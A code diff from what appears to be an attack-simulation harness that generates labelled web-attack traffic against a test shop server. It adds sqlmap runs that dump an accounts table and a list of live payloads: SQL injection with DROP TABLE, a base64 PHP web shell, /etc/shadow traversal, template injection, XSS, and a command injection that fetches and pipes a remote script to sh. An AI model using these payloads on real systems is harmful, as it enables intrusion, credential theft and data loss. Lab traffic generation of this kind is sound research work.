@@ -127,17 +127,11 @@ async function fingerprint(c: AttackCtx): Promise<void> {
   ], 25);
 }
 
-function sqlmap(c: AttackCtx): Promise<unknown> {
+async function sqlmap(c: AttackCtx): Promise<void> {
   const t = c.target(c.plan.srvIp);
-  const agent = c.plan.seed % 2 ? ["--random-agent"] : [];
-  return act(c.atk, [
-    "sqlmap",
-    "-u",
-    `http://${t}/products.php?id=1`,
+  const common = [
     "--dbms=mysql",
     "--batch",
-    "--level",
-    "1",
     "--risk",
     "1",
     "--technique=BEU",
@@ -147,15 +141,31 @@ function sqlmap(c: AttackCtx): Promise<unknown> {
     "5",
     "--retries",
     "0",
+    "--output-dir",
+    `${c.dir}/sqlmap`,
+    ...(c.plan.seed % 2 ? ["--random-agent"] : []),
+  ];
+  const bound = () => Math.max(5, Math.min(c.left(), 90));
+  // The injectable product page: dump the accounts table.
+  await act(c.atk, [
+    "sqlmap",
+    "-u",
+    `http://${t}/products.php?id=1`,
+    "--level",
+    "1",
     "-D",
     "shop",
     "-T",
     "accounts",
     "--dump",
-    "--output-dir",
-    `${c.dir}/sqlmap`,
-    ...agent,
-  ], Math.min(c.left(), 90));
+    ...common,
+  ], bound());
+  // The search uses a prepared statement: sqlmap tries its payloads and finds nothing.
+  await act(
+    c.atk,
+    ["sqlmap", "-u", `http://${t}/search.php?q=desk`, "--level", "2", ...common],
+    bound(),
+  );
 }
 
 async function payloads(c: AttackCtx): Promise<void> {
@@ -170,6 +180,17 @@ async function payloads(c: AttackCtx): Promise<void> {
     "/products.php?id=-1%20UNION%20SELECT%201,user(),3,4--%20-",
     "/index.php?cmd=%3Bcat%20/etc/passwd",
     "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
+    `/view.php?page=http://${a}:8000/enum.sh`,
+    "/view.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
+    "/view.php?page=..%252f..%252f..%252f..%252fetc%252fshadow",
+    "/view.php?page=/proc/self/environ",
+    "/search.php?q=%7B%7B7*7%7D%7D",
+    "/search.php?q=%3Csvg%2Fonload%3Dfetch(%27%2F%2Fx%27)%3E",
+    "/products.php?id=1%27%20OR%20%271%27%3D%271",
+    "/products.php?id=1;DROP%20TABLE%20products--",
+    "/login.php?user=admin%27--&pass=x",
+    "/index.php?page=;wget%20http://x/a.sh|sh",
+    "/upload.php?file=../../../../../var/log/apache2/access.log",
   ];
   for (const u of urls) await curl(c, [`http://${t}${u}`]);
   await curl(c, [
@@ -212,7 +233,7 @@ async function webshell(c: AttackCtx): Promise<void> {
 export const WEB_STEPS: Step[] = [
   { name: "web_scan", label: "web_scan", families: [], maxS: 90, run: webScan },
   { name: "web_fingerprint", label: "web_scan", families: [], maxS: 60, run: fingerprint },
-  { name: "sqlmap", label: "web_exploit", families: ["mariadb"], maxS: 90, run: sqlmap },
+  { name: "sqlmap", label: "web_exploit", families: [], maxS: 90, run: sqlmap },
   { name: "web_payloads", label: "web_exploit", families: [], maxS: 40, run: payloads },
   {
     name: "webshell",
